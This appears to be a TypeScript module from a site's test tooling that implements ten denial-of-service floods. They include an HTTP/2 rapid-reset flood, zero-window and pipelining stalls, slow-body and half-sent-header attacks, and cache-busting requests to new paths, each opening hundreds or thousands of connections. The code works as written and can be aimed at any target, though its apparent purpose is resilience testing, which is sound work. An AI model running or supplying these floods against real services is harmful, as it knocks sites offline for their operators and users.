import type { Socket } from 'node:net';
import { clientPreface, getFrame, pingFrame, resetFrame, streamIds } from '../../../shared/http/testing';
import { keepConnections, type FloodTarget } from './connect';

/** Repeats a step every `ms` until a connection is closed. */
const repeat = (socket: Socket, ms: number, step: () => void): void => {
  const timer = setInterval(step, ms);
  socket.once('close', () => clearInterval(timer));
};

/** Rendered for the first visitor, and cached for the next ones. */
const CACHED_PAGE = '/home';
/** Milliseconds after which a client replaces a connection that the server leaves open. */
const RENEW_MS = 2000;
/** Streams that the site allows on one connection. */
const STREAMS = 128;

/** Opens ten HTTP/2 connections that cancel each request right after it was sent. */
const reset = (target: FloodTarget): Promise<number> =>
  keepConnections(target, 'h2', 10, (socket) => {
    socket.resume();
    socket.write(clientPreface());
    let next = 1;
    const send = (): void => {
      if (socket.destroyed) return;
      const ids = streamIds(200, next);
      next += 400;
      const frames = ids.flatMap((id) => [getFrame(id, `/cars?keyword=${id}`), resetFrame(id)]);
      if (socket.write(Buffer.concat(frames))) setTimeout(send, 5);
      else socket.once('drain', send);
    };
    send();
  });

/** Opens HTTP/2 connections that request a cached page on every stream and accept no byte of the responses. */
const zeroWindow = (target: FloodTarget): Promise<number> =>
  keepConnections(target, 'h2', 200, (socket) => {
    socket.resume();
    socket.write(Buffer.concat([clientPreface(0), ...streamIds(STREAMS).map((id) => getFrame(id, CACHED_PAGE))]));
    repeat(socket, 500, () => socket.write(pingFrame()));
    setTimeout(() => socket.destroy(), RENEW_MS);
  });

/** Opens HTTP/1.1 connections that send many requests for a cached page at once and read no response. */
const pipeline = (target: FloodTarget): Promise<number> =>
  keepConnections(target, 'http/1.1', 200, (socket) => {
    socket.pause();
    socket.write(`GET ${CACHED_PAGE} HTTP/1.1\r\nHost: localhost\r\n\r\n`.repeat(30));
    setTimeout(() => socket.destroy(), RENEW_MS);
  });

/** Opens connections that send the body of a request, one byte a second. */
const slowBodies =
  (line: string, count: number) =>
  (target: FloodTarget): Promise<number> =>
    keepConnections(target, 'http/1.1', count, (socket) => {
      socket.resume();
      socket.write(`${line} HTTP/1.1\r\nHost: localhost\r\nContent-Length: 5000\r\n\r\n`);
      repeat(socket, 1000, () => socket.write('x'));
    });

/** Opens connections that send the beginning of a request and nothing else. */
const idle =
  (beginning: string) =>
  (target: FloodTarget): Promise<number> =>
    keepConnections(target, 'http/1.1', 3000, (socket) => {
      socket.resume();
      socket.write(beginning);
    });

/** Opens connections that each request one page that no visitor requested before. */
const newPages =
  (path: string) =>
  (target: FloodTarget): Promise<number> => {
    let requestCount = 0;
    return keepConnections(target, 'http/1.1', 500, (socket) => {
      socket.resume();
      socket.write(`GET ${path}${(requestCount += 1)} HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n`);
    });
  };

interface Flood {
  readonly start: (target: FloodTarget) => Promise<number>;
  readonly usesTls: boolean;
  /** True if it comes from an address that the site counts as one client. */
  readonly isOneClient?: boolean;
}

const createFlood = (start: Flood['start'], usesTls: boolean): Flood => ({ start, usesTls });
const createOneClientFlood = (start: Flood['start']): Flood => ({ start, usesTls: false, isOneClient: true });

export const floods = {
  reset: createFlood(reset, true),
  zeroWindow: createFlood(zeroWindow, true),
  pipeline: createFlood(pipeline, false),
  slowBodies: createFlood(slowBodies('POST /tech/public/sendEmailCode', 1000), false),
  slowUploads: createOneClientFlood(slowBodies('PUT /uploads/images/a.png', 200)),
  idleConnections: createOneClientFlood(idle('')),
  halfHeads: createOneClientFlood(idle('GET /home HTTP/1.1\r\nHost: localhost\r\n')),
  unreadParameters: createOneClientFlood(newPages('/home?x=')),
  readParameters: createOneClientFlood(newPages('/cars?keyword=')),
  unknownAddresses: createOneClientFlood(newPages('/nowhere/')),
};
export type FloodName = keyof typeof floods;
export const isFloodName = (name: string): name is FloodName => name in floods;
